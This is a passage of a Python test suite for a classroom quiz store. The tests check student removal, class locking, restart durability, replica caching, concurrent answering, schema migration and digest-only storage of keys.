            clean.key_hash(ada.student_key),
            clean.key_hash(bob.student_key),
        )
    go_to(store, teacher, 1)
    store.ask(teacher.code, teacher.teacher_key)
    store.answer(teacher.code, ada.student_key, 0)
    store.answer(teacher.code, bob.student_key, 1)
    assert store.tally(teacher.code, teacher.teacher_key).answered == 2
    before = store.state(teacher.code)

    assert store.remove(teacher.code, teacher.teacher_key, roster[1].student_id)
    after = store.state(teacher.code)
    assert after.version == before.version + 1 and after.removals == before.removals + 1
    assert after.students == 1
    tally = store.tally(teacher.code, teacher.teacher_key)
    assert (tally.joined, tally.answered, tally.counts[0], tally.counts[1]) == (1, 1, 1, 0)
    assert "Bob" not in store.summary_csv(teacher.code, teacher.teacher_key)
    refused(ErrorCode.REMOVED, lambda: store.student(teacher.code, bob.student_key))
    refused(ErrorCode.REMOVED, lambda: store.answer(teacher.code, bob.student_key, 1))
    assert not store.remove(teacher.code, teacher.teacher_key, roster[1].student_id)  # twice
    assert not store.remove(teacher.code, teacher.teacher_key, "nobody")
    assert [r.nickname for r in store.roster(teacher.code, teacher.teacher_key)] == ["Ada"]
    # The seat and the nickname are free again.
    assert store.join(teacher.code, "Bob", client="b").nickname == "Bob"

    state = store.lock(teacher.code, teacher.teacher_key, True)
    assert state.locked and store.state(teacher.code).locked
    refused(ErrorCode.CLASS_LOCKED, lambda: store.join(teacher.code, "Late", client="late"))
    assert store.student(teacher.code, ada.student_key).nickname == "Ada"  # still in
    store.answer(teacher.code, ada.student_key, 2)  # still answering
    assert store.lock(teacher.code, teacher.teacher_key, True).version == state.version
    assert not store.lock(teacher.code, teacher.teacher_key, False).locked
    assert store.join(teacher.code, "Late", client="late").nickname == "Late"
    # Only the teacher.
    refused(ErrorCode.NOT_TEACHER, lambda: store.roster(teacher.code, ada.student_key))
    refused(ErrorCode.NOT_TEACHER, lambda: store.lock(teacher.code, ada.student_key, True))
    refused(
        ErrorCode.NOT_TEACHER,
        lambda: store.remove(teacher.code, ada.student_key, roster[0].student_id),
    )
    assert store.student(teacher.code, ada.student_key).nickname == "Ada"


def test_a_locked_class_at_capacity_and_a_removal_free_a_seat(make) -> None:  # type: ignore[no-untyped-def]
    store = make(max_students=2)
    teacher = store.start(None, "en", client="t")
    store.join(teacher.code, "a", client="x")
    store.join(teacher.code, "b", client="x")
    refused(ErrorCode.CLASS_FULL, lambda: store.join(teacher.code, "c", client="y"))
    first = store.roster(teacher.code, teacher.teacher_key)[0]
    store.remove(teacher.code, teacher.teacher_key, first.student_id)
    store.join(teacher.code, "c", client="y")


# --------------------------------------------------------------------------- durability


def test_a_restarted_store_finds_everything(make) -> None:  # type: ignore[no-untyped-def]
    store = make()
    teacher = store.start(LESSON, "en", client="t")
    pupils = [store.join(teacher.code, f"p{i}", client=f"c{i}") for i in range(3)]
    go_to(store, teacher, 2)
    store.ask(teacher.code, teacher.teacher_key)
    for i, pupil in enumerate(pupils):
        store.answer(teacher.code, pupil.student_key, i)
    before = (store.state(teacher.code), store.tally(teacher.code, teacher.teacher_key))
    del store

    again = make()  # a new store: it reads only what was committed
    assert (again.state(teacher.code), again.tally(teacher.code, teacher.teacher_key)) == before
    assert again.student(teacher.code, pupils[2].student_key).answers == ((2, 2),)
    assert again.is_teacher(teacher.code, teacher.teacher_key)


def test_restart_in_a_fresh_process_sees_committed_answers(db_url: str) -> None:
    """No shared engine or cache: a second interpreter on the same database."""
    import subprocess
    import sys

    store = ClassStore(db_url)
    teacher = store.start(LESSON, "en", client="t")
    pupil = store.join(teacher.code, "p", client="c")
    go_to(store, teacher, 1)
    store.ask(teacher.code, teacher.teacher_key)
    store.answer(teacher.code, pupil.student_key, 3)
    script = (
        "import sys; from torchatlas.classmode import ClassStore;"
        "s = ClassStore(sys.argv[1]); print(s.tally(sys.argv[2], sys.argv[3]).counts,"
        " s.student(sys.argv[2], sys.argv[4]).answers)"
    )
    out = subprocess.run(
        [sys.executable, "-c", script, db_url, teacher.code, teacher.teacher_key,
         pupil.student_key],
        capture_output=True, text=True, timeout=120, check=True,
    ).stdout  # fmt: skip
    assert out.strip() == "(0, 0, 0, 1) ((1, 3),)"


def test_two_replicas_share_a_class(make) -> None:  # type: ignore[no-untyped-def]
    teacher_side, student_side = make(), make()  # two stores = two replicas' caches
    teacher = teacher_side.start(LESSON, "en", client="t")
    pupil = student_side.join(teacher.code, "Remote", client="r")
    assert student_side.version(teacher.code) == 1  # cached now
    go_to(teacher_side, teacher, 1)
    assert student_side.state(teacher.code).step == 1  # state is read, never cached
    moved = time.monotonic()
    while student_side.version(teacher.code) != 2:
        assert time.monotonic() - moved < student_side.limits.version_cache_s + 0.5
        time.sleep(0.02)
    teacher_side.ask(teacher.code, teacher.teacher_key)
    student_side.answer(teacher.code, pupil.student_key, 1)
    assert teacher_side.tally(teacher.code, teacher.teacher_key).answered == 1


def test_version_reads_are_shared(make, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    store = make(version_cache_s=0.5)
    teacher = store.start(None, "en", client="t")
    from torchatlas.classmode import store as module

    reads = []
    real = module.read
    monkeypatch.setattr(module, "read", lambda *a: reads.append(1) or real(*a))
    store._versions.clear()  # as a replica that has not read it yet
    start = time.monotonic()
    threads = [
        threading.Thread(target=lambda: [store.version(teacher.code) for _ in range(20)])
        for _ in range(20)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    elapsed = time.monotonic() - start
    assert len(reads) <= 1 + int(elapsed / 0.5) + 1, (len(reads), elapsed)  # not 400


def test_the_current_state_is_read_once_per_version(make, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    store = make(version_cache_s=60)  # one replica: its own changes update its cache
    teacher = store.start(LESSON, "en", client="t")
    store.join(teacher.code, "Ada", client="s")
    from torchatlas.classmode import store as module

    reads = []
    real = module.read
    monkeypatch.setattr(module, "read", lambda *a: reads.append(1) or real(*a))
    seen = {store.current_state(teacher.code) for _ in range(60)}  # sixty phones poll
    assert len(seen) == 1 and len(reads) == 1
    moved = go_to(store, teacher, 1)
    after = [store.current_state(teacher.code) for _ in range(60)]
    assert {state.version for state in after} == {moved.version} and after[0].step == 1
    assert len(reads) <= 1 + 1 + 2  # the move's own reads, then one for everyone
    store.ask(teacher.code, teacher.teacher_key)
    assert store.current_state(teacher.code).asked


def test_a_snapshot_older_than_a_change_never_hides_it(make) -> None:  # type: ignore[no-untyped-def]
    """A poll's read that began before the teacher's change committed comes back with the
    old version; the change (already published by this replica) must stay what it sees."""
    store = make(version_cache_s=60)
    teacher = store.start(LESSON, "en", client="t")
    before = store.current_state(teacher.code)
    moved = go_to(store, teacher, 1)
    store._remember(teacher.code, before.version)  # what that late read tells the cache
    assert store.version(teacher.code) == moved.version
    assert store.current_state(teacher.code) == moved


# --------------------------------------------------------------------------- concurrency


def test_sixty_students_answer_at_once(make) -> None:  # type: ignore[no-untyped-def]
    store = make()
    teacher = store.start(LESSON, "en", client="t")
    pupils = [store.join(teacher.code, f"s{i}", client=f"c{i}") for i in range(60)]
    go_to(store, teacher, 1)
    store.ask(teacher.code, teacher.teacher_key)
    options = len(find(LESSON).step(1).question.options)
    gate = threading.Barrier(60)
    errors: list[BaseException] = []

    def answer(index: int) -> None:
        try:
            gate.wait()
            store.answer(teacher.code, pupils[index].student_key, index % options)
        except BaseException as error:
            errors.append(error)

    threads = [threading.Thread(target=answer, args=(i,)) for i in range(60)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    tally = store.tally(teacher.code, teacher.teacher_key)
    assert tally.answered == 60 and sum(tally.counts) == 60
    assert tally.counts == tuple(sum(i % options == o for i in range(60)) for o in range(options))


def test_joins_and_a_reveal_race_cleanly(make) -> None:  # type: ignore[no-untyped-def]
    """Answers in flight while the teacher reveals: each is counted or refused as revealed."""
    store = make(max_students=40)
    teacher = store.start(LESSON, "en", client="t")
    go_to(store, teacher, 1)
    store.ask(teacher.code, teacher.teacher_key)
    outcome: list[str] = []
    gate = threading.Barrier(41)

    def student(i: int) -> None:
        gate.wait()
        try:
            pupil = store.join(teacher.code, "same", client=f"c{i}")
            store.answer(teacher.code, pupil.student_key, 0)
            outcome.append("counted")
        except ClassError as error:
            outcome.append(error.code)

    def reveal() -> None:
        gate.wait()
        time.sleep(0.05)
        store.reveal(teacher.code, teacher.teacher_key)

    threads = [threading.Thread(target=student, args=(i,)) for i in range(40)]
    threads.append(threading.Thread(target=reveal))
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert set(outcome) <= {"counted", ErrorCode.ALREADY_REVEALED}
    assert len(outcome) == 40
    tally = store.tally(teacher.code, teacher.teacher_key)
    assert tally.answered == outcome.count("counted") and tally.joined == 40
    names = {row[0] for row in csv.reader(io.StringIO(
        store.summary_csv(teacher.code, teacher.teacher_key)))}  # fmt: skip
    assert len(names) == 40 + 2  # 40 distinct nicknames ("same", "same 2", ...), header, shares


def test_migrations_run_once_when_replicas_start_together(db_url: str) -> None:
    from sqlalchemy import create_engine, select

    from torchatlas.classmode import db, schema

    engines = [create_engine(db.normalise(db_url)) for _ in range(4)]
    found: list[int] = []
    errors: list[BaseException] = []
    gate = threading.Barrier(len(engines))

    def migrate(engine) -> None:  # type: ignore[no-untyped-def]
        gate.wait()
        try:
            found.append(
                db.write(engine, schema.migrate, retry_on=(db.OperationalError, db.DBAPIError))
            )
        except BaseException as error:
            errors.append(error)

    threads = [threading.Thread(target=migrate, args=(engine,)) for engine in engines]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert sorted(found) == [0, *[schema.VERSION] * (len(engines) - 1)]
    with engines[0].connect() as conn:
        assert conn.execute(select(schema.schema.c.version)).scalars().all() == [schema.VERSION]
    for engine in engines:
        engine.dispose()


# --------------------------------------------------------------------------- storage


def test_a_version_1_database_is_migrated(db_url: str) -> None:
    """A database made by schema version 1 (no per-client columns, no lock, no removals,
    nicknames folded by case only) gains them on the next start, its classes intact."""
    from sqlalchemy import create_engine, select, text

    from torchatlas.classmode import db, schema

    store = ClassStore(db_url)
    teacher = store.start(LESSON, "en", client="t")
    store.join(teacher.code, "ADA", client="a")
    engine = create_engine(db.normalise(db_url))
    with engine.begin() as conn:  # back to version 1's tables
        conn.execute(text("DROP INDEX ix_classmode_classes_client"))
        conn.execute(text("DROP INDEX ix_classmode_students_class_client"))
        for table, column in [
            ("classmode_classes", "client"),
            ("classmode_classes", "locked"),
            ("classmode_students", "client"),
            ("classmode_attempts", "kind"),
        ]:
            conn.execute(text(f"ALTER TABLE {table} DROP COLUMN {column}"))
        conn.execute(text("DROP TABLE classmode_removed"))
        conn.execute(text("UPDATE classmode_students SET fold = 'ada'"))  # v1's fold
        conn.execute(text("UPDATE classmode_schema SET version = 1"))
    db._migrated.discard(db.normalise(db_url))

    again = ClassStore(db_url)
    state = again.state(teacher.code)
    assert not state.locked and state.removals == 0 and state.students == 1
    assert again.join(teacher.code, "\u0410da", client="b").nickname == "\u0410da 2"
    assert [r.nickname for r in again.roster(teacher.code, teacher.teacher_key)] == [
        "ADA",
        "\u0410da 2",
    ]
    again.lock(teacher.code, teacher.teacher_key, True)
    refused(ErrorCode.CLASS_LOCKED, lambda: again.join(teacher.code, "c", client="c"))
    with engine.connect() as conn:
        assert conn.execute(select(schema.schema.c.version)).scalar_one() == schema.VERSION
    engine.dispose()


def test_secrets_are_stored_only_as_digests(db_url: str) -> None:
    """The database holds SHA-256 digests of keys and clients, never the keys themselves."""
    import hashlib

    from sqlalchemy import create_engine, text

    from torchatlas.classmode import db

    store = ClassStore(db_url)
    teacher = store.start(LESSON, "en", client="203.0.113.7")
    pupil = store.join(teacher.code, "Ann", client="198.51.100.9")
    engine = create_engine(db.normalise(db_url))
    with engine.connect() as conn:
        dump = " ".join(
            str(value)
            for table in ("classmode_classes", "classmode_students", "classmode_attempts")
            for row in conn.execute(text(f"SELECT * FROM {table}"))  # our own table names
            for value in row
        )
    engine.dispose()
    for secret in (teacher.teacher_key, pupil.student_key, "203.0.113.7", "198.51.100.9"):
        assert secret not in dump
        assert hashlib.sha256(secret.encode()).hexdigest() in dump


def test_the_default_database_is_a_sqlite_file_in_the_data_folder(tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from torchatlas.classmode import db

    folder = tmp_path / "nested" / "data"
    monkeypatch.delenv("ATLAS_DATABASE_URL", raising=False)
    monkeypatch.setenv("ATLAS_DATA_DIR", str(folder))
    store = ClassStore()  # created on first use: no set-up step
    teacher = store.start(None, "en", client="t")
    assert (folder / "classes.sqlite3").is_file()
    assert ClassStore().state(teacher.code).code == teacher.code
    from sqlalchemy import text

    with db.engine_for(store.url).connect() as conn:
        assert conn.execute(text("PRAGMA journal_mode")).scalar() == "wal"
        assert conn.execute(text("PRAGMA synchronous")).scalar() == 2  # FULL
    monkeypatch.setenv("ATLAS_DATABASE_URL", "postgres://u@h:5/d")
    assert db.default_url() == "postgres://u@h:5/d"
    assert db.normalise(db.default_url()) == "postgresql+psycopg://u@h:5/d"
    assert db.normalise("postgresql://u@h/d") == "postgresql+psycopg://u@h/d"
    assert db.normalise("postgresql+psycopg://u@h/d") == "postgresql+psycopg://u@h/d"


def test_an_unreachable_database_is_explained_not_raised_raw() -> None:
    store = ClassStore("postgresql://nobody@127.0.0.1:1/none")  # building it asks nothing
    started = time.monotonic()
    refused(ErrorCode.UNAVAILABLE, lambda: store.state("ABCDEF"))
    refused(ErrorCode.UNAVAILABLE, lambda: store.start(None, "en", client="t"))
    assert time.monotonic() - started < 30
    assert store.is_teacher("ABCDE0", "x" * 32) is False  # malformed: no database needed


def test_a_student_learns_which_questions_were_revealed(make) -> None:  # type: ignore[no-untyped-def]
    """What a student's own score at the end counts: revealed questions only (a question
    the teacher moved on from without revealing is not scored), asked with their own key."""
    store = make()
    teacher = store.start(LESSON, "en", client="ip:192.0.2.1")
    pupil = store.join(teacher.code, "Ada", client="ip:192.0.2.2")
    for number in (1, 2):
        go_to(store, teacher, number)
        store.ask(teacher.code, teacher.teacher_key)
        store.answer(pupil.code, pupil.student_key, 0)
    store.reveal(teacher.code, teacher.teacher_key)  # step 2's; step 1 was left open
    assert store.revealed_steps(pupil.code, pupil.student_key) == (2,)
    refused(ErrorCode.NOT_STUDENT, lambda: store.revealed_steps(pupil.code, "x" * 32))
    refused(ErrorCode.NOT_STUDENT, lambda: store.revealed_steps(pupil.code, teacher.teacher_key))
